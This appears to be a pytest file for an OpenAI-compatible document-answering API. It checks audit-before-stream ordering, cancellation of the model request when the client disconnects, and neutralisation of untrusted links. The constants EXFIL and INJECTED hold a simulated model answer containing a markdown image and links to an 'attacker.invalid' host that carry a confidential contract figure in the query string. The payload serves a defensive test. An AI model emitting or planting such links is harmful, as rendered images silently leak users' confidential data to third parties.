"""The answer path under attack and interruption, end to end: the API served by a real uvicorn on
127.0.0.1 over the real Axonix corpus (synced once for the module), a scripted Ollama on
127.0.0.1 as the answering model, real HTTP clients (httpx, the openai SDK).

- no byte of a streamed answer leaves before its audit record is on disk: with an audit folder
  that can't be written, ``stream: true`` gets 503 ``audit_unavailable`` and the model is never
  called; with one that can, the ``start`` record is there when the model is called;
- a client that disconnects mid-stream (Open WebUI's Stop) stops the model request at once — the
  scripted model sees its connection close — and the ``interrompue`` outcome is written then,
  with the generation time up to the disconnect;
- links and images of the model's answer whose address is not in the extracts reach the client
  as plain text, streamed or not, and the control is recorded.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import openai
import pytest
from markdown_it import MarkdownIt
from support.corpus import copy_corpus, write_config
from support.httpserver import Request, ScriptedServer, ndjson
from support.scripted_ollama import ANSWER_MODEL, GROUNDED, JUDGE_MODEL, chats, script

from ancre.api.app import create_app
from ancre.app.runtime import Runtime
from ancre.app.server import ApiServer
from ancre.config import Settings, load_settings
from ancre.query import QueryCore
from ancre.query.links import CONTROL_LINK_NEUTRALISED
from ancre.settings.query import AuditConfig

KEY = "test-service-key-0123456789"
BAUMONT = "21_Contrat_Maintenance_Baumont_Industries.docx"
QUESTION = "Quel est le forfait mensuel du contrat de maintenance de Baumont Industries ?"
ANSWER = f"Le forfait mensuel s'élève à CHF 4 200 HT [{BAUMONT}]."
EXFIL = "http://attacker.invalid/c?d=CHF-4200"
INJECTED = f"{ANSWER}\n\n![x]({EXFIL}) et [cliquez ici](https://attacker.invalid/p) ou <{EXFIL}>"


def who(upn: str = "alice.martin@axonix.ch") -> dict[str, str]:
    return {"Authorization": f"Bearer {KEY}", "X-OpenWebUI-User-Email": upn,
            "X-OpenWebUI-User-Name": quote("Alice Martin", safe=" ")}


def sse_text(body: str) -> str:
    """The text a streamed chat completion carries (its ``delta.content`` pieces joined)."""
    events = [json.loads(x[6:]) for x in body.splitlines() if x.startswith("data: {")]
    return "".join(e["choices"][0]["delta"].get("content") or "" for e in events if e.get("choices"))


def chat_body(question: str = QUESTION, *, stream: bool) -> dict[str, Any]:
    return {"model": "ancre", "stream": stream, "messages": [{"role": "user", "content": question}]}


@dataclass
class World:
    root: Path
    settings: Settings
    rt: Runtime
    url: str
    model: ScriptedServer

    @property
    def audit_dir(self) -> Path:
        return Path(self.settings.data_dir) / "audit"

    def audit(self) -> list[dict[str, Any]]:
        return [json.loads(x) for f in sorted(self.audit_dir.glob("audit-*.jsonl")) for x in f.read_text("utf-8").splitlines()]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with ScriptedServer() as model:
        root = copy_corpus(tmp_path_factory.mktemp("answer-path"))
        settings = load_settings(write_config(root), llm={"kind": "ollama", "url": model.url},
                                 judge={"timeout_s": 5}, api={"api_key": KEY})
        rt = Runtime(settings)
        for conn in rt.connectors():
            rep = rt.engine.run_pass(conn)
            assert rep.outcome == "ok" and rep.failed == 0, rep
        server = ApiServer(create_app(rt.query_core, settings, not_ready=rt.index_not_ready)).start()
        try:
            yield World(root, settings, rt, server.url, model)
        finally:
            server.stop()
            rt.close()


@pytest.fixture(autouse=True)
def _fresh(world: World) -> None:
    world.model.clear()
    script(world.model, ANSWER, GROUNDED)


# ----------------------------------------------------------------------------- 1. audit first


def test_streamed_answer_is_withheld_when_its_audit_record_cannot_be_written(world: World, tmp_path: Path) -> None:
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the audit folder's parent should be", encoding="utf-8")
    bad = world.settings.model_copy(update={"audit": AuditConfig(dir=blocker / "audit")})
    core = QueryCore(bad, world.rt.query_core.parts)
    server = ApiServer(create_app(core, bad)).start()
    try:
        with httpx.Client(timeout=60) as http, http.stream(
            "POST", f"{server.url}/v1/chat/completions", json=chat_body(stream=True), headers=who()
        ) as r:
            body = r.read()
        assert r.status_code == 503, body[:300]
        assert json.loads(body)["error"]["code"] == "audit_unavailable"
        assert b"data:" not in body and b"4 200" not in body  # not one byte of the answer
        assert chats(world.model, ANSWER_MODEL) == []  # the model was not even called
        # the openai SDK (what Open WebUI's connection is) sees an error, never a piece
        client = openai.OpenAI(base_url=f"{server.url}/v1", api_key=KEY, default_headers=who(), max_retries=0)
        with pytest.raises(openai.APIStatusError) as err:
            for _ in client.chat.completions.create(model="ancre", messages=[{"role": "user", "content": QUESTION}],
                                                    stream=True):
                pytest.fail("a streamed piece arrived although the audit record could not be written")
        assert err.value.status_code == 503
    finally:
        server.stop()
        core.close()


def test_the_start_record_is_on_disk_when_the_model_is_called(world: World) -> None:
    seen: list[list[dict[str, Any]]] = []

    def answer(req: Request) -> Any:
        seen.append(world.audit())  # what the audit folder holds at the instant the model is asked
        pieces = [ANSWER[i : i + 5] for i in range(0, len(ANSWER), 5)]
        return ndjson([*({"model": ANSWER_MODEL, "message": {"role": "assistant", "content": p}, "done": False}
                         for p in pieces), {"model": ANSWER_MODEL, "message": {"content": ""}, "done": True}])

    script(world.model, answer, GROUNDED)
    before = len(world.audit())
    r = httpx.post(f"{world.url}/v1/chat/completions", json=chat_body(stream=True), headers=who(), timeout=60)
    assert r.status_code == 200 and "CHF 4 200 HT" in sse_text(r.text)
    (at_call,) = seen
    new = at_call[before:]
    assert [x["kind"] for x in new] == ["start"], new
    (start,) = new
    assert start["question"] == QUESTION and start["user"] == "alice.martin@axonix.ch"
    assert BAUMONT in {s["filename"] for s in start["sources"]}
    after = world.audit()[before:]
    assert [x["kind"] for x in after] == ["start", "outcome"] and after[1]["id"] == start["id"]
    assert after[1]["error"] is None and after[1]["ancree"] is True and "generation" in after[1]["timings_ms"]


# ----------------------------------------------------------------------------- 2. disconnect


class SlowModel:
    """A streamed answer of one piece every 0.1 s for a minute; ``closed`` is set when its
    connection was closed by the client before the end (the write failed and the stream was
    abandoned)."""

    PIECES, EVERY_S = 600, 0.1

    def __init__(self) -> None:
        self.closed = threading.Event()
        self.started = threading.Event()
        self.finished = False

    def frames(self) -> Iterator[dict[str, Any]]:
        self.started.set()
        try:
            for i in range(self.PIECES):
                yield {"model": ANSWER_MODEL, "message": {"role": "assistant", "content": f"mot{i} "}, "done": False}
                time.sleep(self.EVERY_S)
            yield {"model": ANSWER_MODEL, "message": {"content": ""}, "done": True}
            self.finished = True
        finally:
            if not self.finished:
                self.closed.set()

    def __call__(self, req: Request) -> Any:
        return ndjson(self.frames())


def test_client_disconnect_cancels_the_model_request_and_is_audited_at_once(world: World) -> None:
    slow = SlowModel()
    script(world.model, slow, GROUNDED)
    before = len(world.audit())
    t0 = time.monotonic()
    with httpx.Client(timeout=60) as http:
        with http.stream("POST", f"{world.url}/v1/chat/completions", json=chat_body(stream=True), headers=who()) as r:
            assert r.status_code == 200
            for line in r.iter_lines():
                if line.startswith("data: ") and "mot" in line:
                    break  # the answer is being written: the user presses Stop
        left = time.monotonic()  # the response is closed: the connection with it
    assert slow.closed.wait(15), "the model kept generating for a client that had left"
    deadline = time.monotonic() + 15
    outcome = None
    while time.monotonic() < deadline and outcome is None:
        outcome = next((x for x in world.audit()[before:] if x["kind"] == "outcome"), None)
        time.sleep(0.05)
    assert outcome is not None, "no outcome record for the abandoned answer"
    start = next(x for x in world.audit()[before:] if x["kind"] == "start")
    assert outcome["id"] == start["id"] and outcome["error"] == "interrompue" and outcome["ancree"] is None
    # the generation time is the time until the client left, not until the model would have ended
    assert outcome["timings_ms"]["generation"] < (left - t0 + 5) * 1000 < SlowModel.PIECES * SlowModel.EVERY_S * 1000
    assert chats(world.model, JUDGE_MODEL) == []  # nothing more was asked of any model


# ----------------------------------------------------------------------------- 4. links


_MD = MarkdownIt("commonmark", {"linkify": True}).enable(["linkify", "table", "strikethrough"])


def addresses(markdown: str) -> list[str]:
    """Every address the Markdown would fetch or link to when rendered (images, links, autolinks,
    bare URLs, raw HTML attributes)."""
    out = []
    for tok in _MD.parse(markdown):
        if tok.type == "html_block" and "=" in tok.content:
            out.append(tok.content)
        for c in tok.children or ():
            if c.type == "image":
                out.append(str(c.attrs["src"]))
            elif c.type == "link_open":
                out.append(str(c.attrs["href"]))
            elif c.type == "html_inline" and "=" in c.content:
                out.append(c.content)
    return out


def test_exfiltrating_images_and_links_reach_the_client_as_plain_text(world: World) -> None:
    script(world.model, INJECTED, GROUNDED)
    before = len(world.audit())
    r = httpx.post(f"{world.url}/v1/chat/completions", json=chat_body(stream=False), headers=who(), timeout=60)
    assert r.status_code == 200
    text = r.json()["choices"][0]["message"]["content"]
    assert not any("attacker" in a for a in addresses(text)), addresses(text)
    assert "attacker" in text and "CHF 4 200 HT" in text  # still shown, as text
    assert CONTROL_LINK_NEUTRALISED in r.json()["ancre"]["controles"]

    streamed, seen = "", []
    with httpx.Client(timeout=60) as http, http.stream(
        "POST", f"{world.url}/v1/chat/completions", json=chat_body(stream=True), headers=who()
    ) as s:
        for line in s.iter_lines():
            if not line.startswith("data: {"):
                continue
            event = json.loads(line[6:])
            piece = (event["choices"] or [{}])[0].get("delta", {}).get("content") or ""  # source events: no choice
            streamed += piece
            seen.extend(addresses(streamed))  # what the client renders at each step
            if "ancre" in event:
                assert CONTROL_LINK_NEUTRALISED in event["ancre"]["controles"]
    assert not any("attacker" in a for a in seen), seen
    # the answer itself, as written (streamed: its citation numbered as Open WebUI's source chip, README "Open WebUI")
    assert streamed.startswith(ANSWER.replace(f"[{BAUMONT}]", "[1]")) and text.startswith(ANSWER)

    lines = world.audit()[before:]
    answer = next(x for x in lines if x["kind"] == "answer")
    outcome = next(x for x in lines if x["kind"] == "outcome")
    for rec in (answer, outcome):
        assert CONTROL_LINK_NEUTRALISED in rec["controls"]
        assert EXFIL in rec["neutralised"] and "https://attacker.invalid/p" in rec["neutralised"]
